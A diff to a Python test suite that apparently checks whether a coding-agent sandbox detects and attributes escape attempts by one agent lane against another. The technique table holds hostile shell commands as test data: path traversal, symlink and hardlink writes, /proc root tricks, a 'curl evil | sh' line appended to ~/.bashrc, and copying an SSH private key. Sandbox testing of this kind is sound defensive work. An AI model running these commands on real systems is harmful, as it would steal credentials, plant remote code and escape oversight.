@@ -38,15 +38,19 @@ TECHNIQUES = [
     Technique("dot-dot", "echo x > ../../../repo/dotdot.txt", "{repo}/dotdot.txt", "checkout", "reported"),
     Technique(
         "symlink made inside, written through",
-        "ln -s $REPO/linked.txt src/x/link && echo x > src/x/link",
+        "mkdir -p src/x && ln -s $REPO/linked.txt src/x/link && echo x > src/x/link",
         "{repo}/linked.txt", "checkout", "reported",
     ),
     Technique(
-        "hardlink", "ln $REPO/README.md src/x/hard && echo pwned >> src/x/hard",
+        "hardlink", "mkdir -p src/x && ln $REPO/README.md src/x/hard && echo pwned >> src/x/hard",
         "{repo}/README.md", "checkout", "reported",
     ),
     Technique(
         "/proc/self/cwd", "echo x > /proc/self/cwd/../../../repo/proc.txt", "{repo}/proc.txt", "checkout",
+        "reported",
+    ),
+    Technique(
+        "/proc/<pid>/root", "echo x > /proc/$$/root$REPO/procroot.txt", "{repo}/procroot.txt", "checkout",
         "reported",
     ),
     Technique(
@@ -104,7 +108,7 @@ TECHNIQUES = [
     Technique("~/.bashrc", "echo 'curl evil | sh' >> $HOME/.bashrc", "{home}/.bashrc", "home", "undone"),
     Technique("a new file in $HOME", "echo x > $HOME/dropped.txt", "{home}/dropped.txt", "home", "reported"),
     Technique(
-        "~/.ssh/id_* read into an owned file", "cat $HOME/.ssh/id_ed25519 > src/x/key.txt",
+        "~/.ssh/id_* read into an owned file", "mkdir -p src/x && cat $HOME/.ssh/id_ed25519 > src/x/key.txt",
         "{wt}/src/x/key.txt", "secret", "undone",
     ),
 ]  # fmt: skip
@@ -124,17 +128,17 @@ def _home(tmp_path: Path) -> Path:
 def _attack(tmp_path: Path) -> Path:
     script = tmp_path / "attack.sh"
     lines = [t.command + " || true" for t in TECHNIQUES]
-    script.write_text(
-        "\n".join(
-            ["REPO=$1; COMMON=$REPO/.git; EVIL=$(git commit-tree -m evil HEAD^{tree})", *lines, DOUBLE_FORK]
-        )
-        + "\n",
-        encoding="utf-8",
-    )
+    head = [
+        "REPO=$1; COMMON=$REPO/.git; EVIL=$(git commit-tree -m evil HEAD^{tree})",
+        # Wait (a condition, a minute at most) until the victim has stopped, waiting on a person.
+        'n=0; until grep -qs \'"story":"v","status":"waiting"\' $REPO/.flow/runs/*/trace.jsonl;'
+        " do n=$((n+1)); [ $n -gt 600 ] && break; sleep 0.1; done",
+    ]
+    script.write_text("\n".join([*head, *lines, DOUBLE_FORK]) + "\n", encoding="utf-8")
     return script
 
 
-@pytest.mark.parametrize("origin", ["turn", "gate"])
+@pytest.mark.parametrize("origin", ["turn", "gate", "setup"])
 def test_every_escape_is_caught_and_blamed_on_the_lane_that_did_it(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch, origin: str
 ) -> None:
@@ -144,17 +148,18 @@ def test_every_escape_is_caught_and_blamed_on_the_lane_that_did_it(
     monkeypatch.setenv("FLOWD_SCRIPT_STATE", str(tmp_path / "script-state"))
     repo = tmp_path / "repo"
     attack = f"sh {shlex.quote(str(_attack(tmp_path)))} {shlex.quote(str(repo))}"
-    # The victim stops early (waiting on a person) with its worktree left; the attacker waits
-    # until then, so the victim has no step running when its worktree is written.
+    # The victim stops early (waiting on a person) with its worktree left; the attack waits for
+    # that (in its script), so the victim has no step running when its worktree is written.
     victim = coder(
         "v", {"src/v/v.py": "V = 1\n"}, reply="stuck\nBLOCKED_ON: which greeting the product wants"
     )
-    attacker = coder(
-        "x", {"src/x/x.py": "X = 1\n"}, delayMs=1500, **({"run": [attack]} if origin == "turn" else {})
-    )
-    gate = f'[ "$FLOWD_LANE" = x ] && {attack}; true' if origin == "gate" else "true"
+    attacker = coder("x", {"src/x/x.py": "X = 1\n"}, **({"run": [attack]} if origin == "turn" else {}))
+    only_x = f'[ "$FLOWD_LANE" = x ] && {attack}; true'
+    gate = only_x if origin == "gate" else "true"
+    setup = only_x if origin == "setup" else "true"
     settings = (
-        f'gates = [{json.dumps(gate)}]\njudgeRounds = 0\nmaxReviewRounds = 1\n[sandbox]\nmode = "detect"\n'
+        f"gates = [{json.dumps(gate)}]\nsetup = [{json.dumps(setup)}]\njudgeRounds = 0\n"
+        'maxReviewRounds = 1\n[sandbox]\nmode = "detect"\n'
     )
     sc = Scenario.create(
         tmp_path, [story("v", ["src/v/"]), story("x", ["src/x/"])], [victim, attacker], settings=settings
